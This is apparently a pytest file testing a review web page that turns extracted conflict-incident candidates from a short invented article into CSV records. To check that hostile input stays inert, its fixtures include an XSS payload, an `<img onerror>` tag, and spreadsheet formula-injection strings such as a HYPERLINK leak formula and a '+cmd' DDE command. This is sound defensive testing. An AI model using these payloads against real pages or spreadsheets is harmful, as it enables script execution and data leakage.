"""The review page makes records: accept, edit, reject, download, and ``geo validate`` the files.

The main test is the issue's: ``geo extract FILE --html`` on a short invented article,
the page opened in headless Chromium (network refused), two candidates accepted, one
edited (its date and its tolls) through the edit form, one rejected, the three files
downloaded by clicking the buttons (real downloads, through the DevTools protocol), and
``geo validate`` run on the folder they land in. The others build the page by hand
(hostile notes and places, formula cells, the checks that keep a row from being
accepted) or check the page's data without a browser.
"""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest

from geo import schema
from geo.cli import main
from geo.dates import parse_date
from geo.errors import InputError
from geo.extract.candidates import Candidate
from geo.extract.document import Document
from geo.extract.mention import Mention
from geo.extract.review import RECORD_COLUMNS, review_page
from geo.seeds import Seeds, read_table
from geo.validate import validate_seeds

ARTICLE = (
    "Ménaka, 20 June 2022.\n"
    "\n"
    "On 8 March 2022 fighters of ISGS attacked Tamalat, and 12 civilians were killed.\n"
    "On 9 March 2022 ISGS fighters ambushed FAMa soldiers near Inchinane, killing about 30 people.\n"
    "The ISGS seized Anderamboukane on 10 March 2022.\n"
    "On 15 March 2022 an attack on Ménaka killed at least 5 people.\n"
)
PWN = "<img src=x onerror=window.__pwned=1>"
FORMULA = '=HYPERLINK("http://x?leak="&A1)'
SEEDS = Path(__file__).resolve().parent.parent / "seeds"


def ready(page) -> None:
    page.wait_for("window.review && window.review.ready === true", timeout=20)


def allow_downloads(browser, folder: Path) -> Path:
    """Let the page save files, into ``folder`` (Chromium's own download, as a user's click does)."""
    folder.mkdir(parents=True, exist_ok=True)
    browser.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder)})
    return folder


def wait_for_file(path: Path, timeout: float = 10.0) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        partial = list(path.parent.glob("*.crdownload"))
        if path.exists() and not partial:
            return path.read_text(encoding="utf-8")
        time.sleep(0.05)
    raise TimeoutError(f"{path.name} was not downloaded into {path.parent}: {sorted(path.parent.iterdir())}")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def header_of(name: str) -> list[str]:
    with (SEEDS / name).open(encoding="utf-8", newline="") as handle:
        return next(csv.reader(handle))


def element(page, selector: str):
    """The element, scrolled to the middle of its pane (not under the sticky records panel)."""
    from selenium.webdriver.common.by import By

    found = page.driver.find_element(By.CSS_SELECTOR, selector)
    page.evaluate("arguments[0].scrollIntoView({block: 'center'})", found)
    return found


def press(page, selector: str) -> None:
    """A user's click (WebDriver's: the element must be visible, enabled and not covered)."""
    element(page, selector).click()


def type_into(page, selector: str, text: str) -> None:
    field = element(page, selector)
    field.clear()
    field.send_keys(text)


# --- the scenario -------------------------------------------------------------------------


def test_accept_two_edit_one_reject_one_download_and_validate(browser, tmp_path, capsys):
    article = tmp_path / "menaka-report.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    html = tmp_path / "review.html"
    assert main(["extract", str(article), "--date", "2022-06-20", "--quiet", "--html", str(html)]) == 0
    page = browser.open_page(html)
    ready(page)
    records = page.evaluate("return window.review.records()")
    at = {(r["record"], r["row"]["place"]): i for i, r in enumerate(records)}
    tamalat, inchinane = at["incident", "ml-tamalat"], at["incident", "ml-inchinane"]
    seized, menaka = at["claim", "ml-anderamboukane"], at["incident", "ml-menaka"]
    source = records[tamalat]["row"]["sources"]
    assert source == "doc-menaka-report"  # not a bundled source: the page offers its sources.csv row

    card = '.rv-cand[data-c="{}"] '.format
    press(page, card(tamalat) + ".rv-accept")
    press(page, card(seized) + ".rv-accept")
    press(page, card(menaka) + ".rv-reject")
    # the edit form: a date that is no EDTF is refused, with the reason, and nothing is saved
    press(page, card(inchinane) + ".rv-edit")
    type_into(page, card(inchinane) + '[data-col="date"]', "9 March 2022")
    press(page, card(inchinane) + ".rv-save")
    shown = page.evaluate(
        "return arguments[0].querySelector('.rv-form .rv-messages').textContent", _card(page, inchinane)
    )
    assert "date (EDTF): expected YYYY" in shown
    assert page.evaluate("return window.review.records()[arguments[0]].decision", inchinane) == "pending"
    type_into(page, card(inchinane) + '[data-col="date"]', "2022-03-08/2022-03-09")
    type_into(page, card(inchinane) + '[data-col="fatalities_low"]', "25")
    type_into(page, card(inchinane) + '[data-col="fatalities_best"]', "28")
    type_into(page, card(inchinane) + '[data-col="fatalities_high"]', "31")
    press(page, card(inchinane) + ".rv-save")

    states = page.evaluate(
        "return Array.from(document.querySelectorAll('.rv-cand')).map(c => c.querySelector('.rv-state').textContent)"
    )
    assert states[tamalat] == states[seized] == "accepted"
    assert states[inchinane] == "accepted, edited" and states[menaka] == "rejected"
    edited_card = page.text(card(inchinane).strip())
    assert "2022-03-08/2022-03-09" in edited_card and "25 / 28 / 31 (low / best / high)" in edited_card
    assert "changed: date, fatalities_low, fatalities_best, fatalities_high" in edited_card

    folder = allow_downloads(browser, tmp_path / "downloads")
    texts = {}
    for kind in ("incidents", "claims", "sources"):
        assert page.evaluate("return document.getElementById(arguments[0]).disabled", f"rv-dl-{kind}") is False
        press(page, f"#rv-dl-{kind}")
        texts[kind] = wait_for_file(folder / f"{kind}.csv")
        assert texts[kind] == page.evaluate("return window.review.csv(arguments[0])", kind)
    assert page.console_errors() == [] and page.network_requests() == []

    capsys.readouterr()
    assert main(["validate", "--seeds", str(folder)]) == 0, capsys.readouterr()
    assert main(["validate", "--incidents", str(folder / "incidents.csv")]) == 0, capsys.readouterr()

    for kind, name in (("incidents", "incidents.csv"), ("claims", "claims.csv"), ("sources", "sources.csv")):
        assert texts[kind].splitlines()[0].split(",") == header_of(name)  # the seeds' header, in order
    incidents = {row["id"]: row for row in rows_of(texts["incidents"])}
    assert list(incidents) == [records[tamalat]["id"], records[inchinane]["id"]]  # page order, ids kept
    edited = incidents[records[inchinane]["id"]]
    assert edited["date"] == "2022-03-08/2022-03-09"
    assert (edited["fatalities_low"], edited["fatalities_best"], edited["fatalities_high"]) == ("25", "28", "31")
    assert edited["place"] == "ml-inchinane" and edited["actor1"] == "isgs" and edited["sources"] == source
    assert incidents[records[tamalat]["id"]] == {k: records[tamalat]["row"][k] for k in header_of("incidents.csv")}
    claims = rows_of(texts["claims"])
    assert [(c["id"], c["actor"], c["status"], c["place"]) for c in claims] == [
        (records[seized]["id"], "isgs", "seized", "ml-anderamboukane")
    ]
    sources = rows_of(texts["sources"])
    assert [(s["id"], s["kind"], s["title"], s["date"]) for s in sources] == [
        (source, "document", "menaka-report.txt", "2022-06-20")
    ]


def _card(page, c: int):
    return element(page, f'.rv-cand[data-c="{c}"]')


# --- hostile values, formula cells, the checks ------------------------------------------------------


def hand_built() -> tuple[list[Document], list[Candidate]]:
    """One document citing a bundled source; hostile notes and places; four candidates."""
    text = "On 8 March 2022 ISGS attacked Tamalat " + PWN + ". FAMa retook Ménaka. " + FORMULA
    doc = Document("report.txt", text, "doc-001", parse_date("2022-06-20"))

    def mention(words: str, kind: str, resolution: dict) -> Mention:
        start = text.index(words)
        found = Mention(doc.name, start, start + len(words), words, kind, resolution)
        doc.mentions.append(found)
        return found

    tamalat = mention(
        "Tamalat",
        "place",
        {
            "place": "ml-tamalat",
            "name": "Tamalat",
            "lat": 15.797,
            "lon": 3.7095,
            "status": "ok",
            "candidates": [{"id": "ml-tamalat", "name": "Tamalat"}, {"id": "gn-6851334", "name": "Tamallat"}],
        },
    )
    isgs = mention("ISGS", "actor", {"actor": "isgs"})
    menaka = mention("Ménaka", "place", {"place": "ml-menaka", "name": "Ménaka", "lat": 15.9, "lon": 2.4})
    incident = {
        "date": "2022-03-08",
        "place": "ml-tamalat",
        "location": FORMULA,
        "precision": "1",
        "event_type": "Battles",
        "sub_event_type": "Armed clash",
        "actor1": "isgs",
        "actor2": "fama",
        "fatalities_text": '-5, or "so"',
        "sources": "doc-001",
        "note": PWN,
    }
    claim = {
        "actor": "fama",
        "status": "seized",
        "place": "ml-menaka",
        "start": "2022-03",
        "tier": "claimed",
        "sources": "doc-001",
        "note": "@SUM(1+1)\nand a second line",
    }
    candidates = [
        Candidate("cand-inc-2022-03-08-ml-tamalat", "incident", doc.name, 0, 60, incident, [isgs, tamalat]),
        Candidate("cand-clm-2022-03-ml-menaka", "claim", doc.name, 61, 82, claim, [menaka]),
        Candidate("cand-inc-2022-03-08-ml-tamalat", "incident", doc.name, 0, 60, dict(incident), [tamalat]),
        Candidate("Bad Id", "incident", doc.name, 0, 60, {**incident, "date": "8 March", "actor1": "nobody"}, []),
    ]
    return [doc], candidates


@pytest.fixture
def hostile_page(browser, tmp_path, gazetteer):
    documents, candidates = hand_built()
    path = tmp_path / "review.html"
    path.write_text(review_page(documents, candidates, gazetteer=gazetteer, title=PWN), encoding="utf-8")
    page = browser.open_page(path)
    ready(page)
    return page


def test_hostile_values_stay_text_and_formula_cells_are_made_safe(browser, hostile_page, tmp_path, gazetteer):
    page = hostile_page
    assert page.evaluate("return window.review.accept(0)") == []
    assert page.evaluate("return window.review.accept(1)") == []
    # typed into the edit form: hostile markup and a formula, as a user could paste them
    press(page, '.rv-cand[data-c="0"] .rv-edit')
    type_into(page, '.rv-cand[data-c="0"] [data-col="note"]', "+cmd|' /C calc'!A0 " + PWN.replace("1", "2"))
    type_into(page, '.rv-cand[data-c="0"] [data-col="longitude"]', "-3.5")
    type_into(page, '.rv-cand[data-c="0"] [data-col="latitude"]', "15.8")
    press(page, '.rv-cand[data-c="0"] .rv-save')
    assert page.evaluate("return window.review.records()[0].decision") == "accepted"
    assert page.evaluate("return window.__pwned === undefined")
    assert page.evaluate("return document.querySelectorAll('img').length") == 0
    assert PWN.replace("1", "2") in page.text('.rv-cand[data-c="0"] .rv-fields')

    incidents = page.evaluate("return window.review.csv('incidents')")
    lines = incidents.splitlines()
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in lines[1]  # apostrophe, then quoted
    assert ",-3.5," in lines[1]  # a plain number is no formula
    assert ",'+cmd|' /C calc'!A0 <img" in lines[1]
    row = rows_of(incidents)[0]
    assert row["location"] == "'" + FORMULA and row["note"].startswith("'+cmd")
    assert row["fatalities_text"] == '\'-5, or "so"'  # quoted: a comma and quotes
    claims = page.evaluate("return window.review.csv('claims')")
    assert '"\'@SUM(1+1)\nand a second line"' in claims  # quoted: a newline
    assert rows_of(claims)[0]["note"] == "'@SUM(1+1)\nand a second line"
    # no sources.csv: the document's source is a bundled one
    assert page.evaluate("return document.getElementById('rv-dl-sources').hidden") is True
    assert page.evaluate("return window.review.csv('sources')") == ",".join(header_of("sources.csv")) + "\n"

    # the button's Blob is the text review.csv gives; the records reader takes the apostrophes off
    folder = allow_downloads(browser, tmp_path / "downloads")
    press(page, "#rv-dl-incidents")
    press(page, "#rv-dl-claims")
    blob = page.driver.execute_async_script(
        "var done = arguments[arguments.length - 1]; window.review.lastDownload().blob.text().then(done);"
    )
    assert blob == page.evaluate("return window.review.csv('claims')")
    assert wait_for_file(folder / "incidents.csv") == incidents
    wait_for_file(folder / "claims.csv")
    table = read_table(folder / "incidents.csv", schema.INCIDENTS_FILE)
    assert table.rows[0]["location"] == FORMULA and table.rows[0]["note"].startswith("+cmd|")
    assert validate_seeds(Seeds.load(folder), gazetteer) == []
    assert page.console_errors() == []


def test_a_row_with_problems_is_not_accepted(hostile_page):
    page = hostile_page
    assert page.evaluate("return window.review.accept(0)") == []
    duplicate = page.evaluate("return window.review.accept(2)")
    assert [p["column"] for p in duplicate] == ["id"]  # its id (made unique) is fine; its record is not
    assert "likely the same incident as cand-inc-2022-03-08-ml-tamalat" in duplicate[0]["text"]
    records = page.evaluate("return window.review.records()")
    assert records[2]["id"] == "cand-inc-2022-03-08-ml-tamalat-2" and records[2]["decision"] == "pending"
    assert records[3]["id"] == "bad-id"  # made valid
    bad = page.evaluate("return window.review.accept(3)")
    assert {p["column"] for p in bad} == {"date", "actor1"}
    assert "unknown actor 'nobody'" in " ".join(p["text"] for p in bad)
    assert "date (EDTF): expected YYYY" in page.text('.rv-cand[data-c="3"] .rv-messages')
    # an edit is checked as an acceptance is: a count that is not a number, low above high
    problems = page.evaluate(
        "return window.review.edit(3, {date: '2022-03-08', actor1: 'isgs', fatalities_low: '12',"
        " fatalities_high: '9', displaced: 'many', place: 'ml-nowhere-known'})"
    )
    assert {p["column"] for p in problems} == {"fatalities_low", "displaced"}
    warning = hostile_page.text('.rv-cand[data-c="3"] .rv-warning')
    assert "not a place this page knows" in warning
    # the edit of another candidate's id, and the undo of a decision
    assert page.evaluate("return window.review.edit(1, {id: 'cand-inc-2022-03-08-ml-tamalat'})") == []  # other file
    assert page.evaluate("return window.review.undo(0)") == []
    assert page.evaluate("return window.review.records()[0].decision") == "pending"
    assert page.evaluate("return window.review.csv('incidents').split('\\n').length") == 2  # the header alone
    assert page.evaluate("return document.getElementById('rv-dl-incidents').disabled") is True
    assert page.console_errors() == []


DATES = [
    "2022-03-08", "2022-03", "2022", "2022-06-11/2022-06-12", "2022-03~", "2022-03?", "2022-03-08%",
    "2022-40", "2022-21", "2022-37", "2022-09/..", "../2022-06-20", "2022-09/", "2022-03-XX", "2022-XX",
    "199X", "19XX", "2024-02-29", " 2022-03-08 ", "2022-03-08/2022-03-08",
    # refused
    "2022-02-30", "2023-02-29", "2022-13", "2022-00", "9 March 2022", "2022/03/08", "2022-03-08/2022-03-01",
    "../..", "/", "2022-40-01", "20222", "0000", "9999", "2022-03-08T10:00", "", "2022-3-8", "199X-03",
    "2022-XX-05", "2022-03/2022-02", "2022-03-08/2022-03-09/2022-03-10", "2022-03~~",
]  # fmt: skip


def test_the_page_checks_a_date_as_geo_does(hostile_page):
    found = hostile_page.evaluate("return arguments[0].map(window.review.dateProblem)", DATES)
    for text, problem in zip(DATES, found, strict=True):
        try:
            parse_date(text)
            valid = True
        except InputError:
            valid = False
        assert (problem is None) == valid, (text, problem)


# --- the page's data, without a browser -------------------------------------------------------------


def test_the_page_carries_each_candidate_as_a_row_of_its_file(tiny):
    import json
    import re

    documents, candidates = hand_built()
    documents.append(Document("texts/Other Story.txt", "Nothing here.", "doc-other-story", None))
    page = review_page(documents, candidates, gazetteer=tiny)
    data = json.loads(re.search(r'id="rv-data">(.*?)</script>', page, re.S).group(1))["records"]
    assert data["columns"]["incident"] == header_of("incidents.csv") == list(RECORD_COLUMNS["incident"])
    assert data["columns"]["claim"] == header_of("claims.csv")
    assert data["columns"]["source"] == header_of("sources.csv")
    ids = [item["id"] for item in data["items"]]
    assert ids == [
        "cand-inc-2022-03-08-ml-tamalat",
        "cand-clm-2022-03-ml-menaka",
        "cand-inc-2022-03-08-ml-tamalat-2",
        "bad-id",
    ]
    first = data["items"][0]
    assert list(first["row"]) == header_of("incidents.csv") and first["row"]["id"] == ids[0]
    assert first["row"]["note"] == PWN and first["row"]["location"] == FORMULA
    assert first["places"] == [
        {"id": "ml-tamalat", "group": "proposed"},
        {"id": "gn-6851334", "group": "alternative"},
        {"id": "ml-menaka", "group": "document"},
    ]
    assert data["placeNames"]["gn-6851334"] == "Tamallat"
    assert set(data["eventTypes"]) == set(schema.EVENT_TYPES) and "isgs" in dict(data["actors"])
    # doc-001 is a bundled source; the other document's source is not, and gets a row
    assert "doc-001" in data["sources"]
    assert [(s["id"], s["title"], s["kind"]) for s in data["newSources"]] == [
        ("doc-other-story", "Other Story.txt", "document")
    ]
    assert PWN not in page and "&lt;img src=x" in page  # escaped in the HTML, \u003c in the JSON
    # a source the given records know is not offered again
    seeds = Seeds.load()
    seeds.sources.rows.append(type(seeds.sources.rows[0])(999, {"id": "doc-other-story", "kind": "document"}))
    known = review_page(documents, candidates, gazetteer=tiny, seeds=seeds)
    assert '"newSources":[]' in known
